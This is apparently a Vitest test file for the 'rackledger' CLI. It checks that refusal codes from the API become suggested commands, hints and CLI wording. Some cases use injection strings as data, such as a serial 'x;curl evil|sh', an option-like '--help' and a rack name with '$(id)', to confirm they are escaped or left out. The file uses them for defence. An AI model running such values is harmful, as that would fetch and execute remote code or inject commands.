import { describe, expect, it } from 'vitest';
import { commandsOutOf, hintsOf, inWordsOfTheLine, missingOf } from './ways-out.js';

const web1 = { id: 'm01tewzge70ajn32hafyd', name: 'web-1', system: { serial: 'SN1' } };
const unnamed = { ...web1, name: null };
const place = { rack: 'b1/r07', unit: 3 };

describe('the way out of a refusal', () => {
  it.each([
    ['machine-retired', [web1], {}, ['machines restore web-1']],
    ['machine-not-accepted', [unnamed], {}, ['machines accept SN1']],
    ['place-taken', [web1], { place }, ['machines unplace web-1', 'racks show b1/r07']],
    ['place-taken', [], { place }, []],
    ['stands-already', [web1], { place }, ['machines move web-1 b1/r07:3']],
    ['rack-not-found', [], { rack: 'b1/r99' }, ['racks list']],
    ['rack-retired', [], { rack: 'b1/r07' }, ['racks restore b1/r07']],
    ['role-closed', [], { role: 'web' }, ['roles reopen web']],
    ['pool-not-found', [], {}, ['pools list']],
    ['tag-invalid', [web1], {}, []],
    ['machine-retired', [{ ...unnamed, system: { serial: 'x;curl evil|sh' } }], {}, [`machines restore ${web1.id}`]],
    ['machine-retired', [{ ...unnamed, system: { serial: '--help' } }], {}, [`machines restore ${web1.id}`]],
    ['rack-retired', [], { rack: "row 2's $(id)" }, ["racks restore 'row 2'\\''s $(id)'"]],
    ['stands-nowhere', [web1], { place: { rack: 'a b', unit: 3 } }, ["machines place web-1 'a b:3'"]],
    ['stands-nowhere', [web1], { place: { chassis: 'c1', slot: 'A' } }, ['machines place web-1 c1#A']],
    ['constructor', [web1], {}, []],
  ])('%s leads to commands', (code, machines, input, commands) => {
    expect(commandsOutOf({ code, machines }, input)).toEqual(commands.map((one) => `rackledger ${one}`));
  });

  it.each([
    ['rack-not-found', 'There is no rack b1/r99.', { place: { rack: 'b1/r99', unit: 3 } }, 'racks', 'b1/r99'],
    ['pool-not-found', 'There is no pool nope.', { pool: 'nope' }, 'pools', 'nope'],
    ['policy-not-found', 'There is no policy webs, ever.', { policy: 'webs' }, 'policies', 'webs'],
  ])('%s says what is missing', (code, message, input, group, said) => {
    expect(missingOf({ code, message }, input)).toEqual({ group, said });
    expect(missingOf({ code, message: 'There is none.' }, input)).toBeUndefined();
    expect(missingOf({ code: 'rack-retired', message }, input)).toBeUndefined();
  });

  it('says the count that a filter matches by now', () => {
    const message = 'The filter matches 1,016 machines, and 3 were expected; nothing was done.';
    expect(hintsOf({ code: 'filter-moved', message })).toEqual(['Say --expected-count 1016 if these are meant.']);
    expect(hintsOf({ code: 'tag-invalid', message })).toEqual([]);
  });

  it('names commands and options of the line, and not those of the API', () => {
    expect(inWordsOfTheLine('Have it given back first: releaseAsn.')).toBe(
      'Have it given back first: rackledger machines release-asn.',
    );
    expect(inWordsOfTheLine('Send confirmCount: 12 if that is what you mean.')).toMatch(/^Say --yes-count 12 if/);
    expect(inWordsOfTheLine('Send it as expectedCount.', ['expectedCount'])).toBe('Send it as --expected-count.');
    expect(inWordsOfTheLine('Say it to macOS.')).toBe('Say it to macOS.');
  });
});
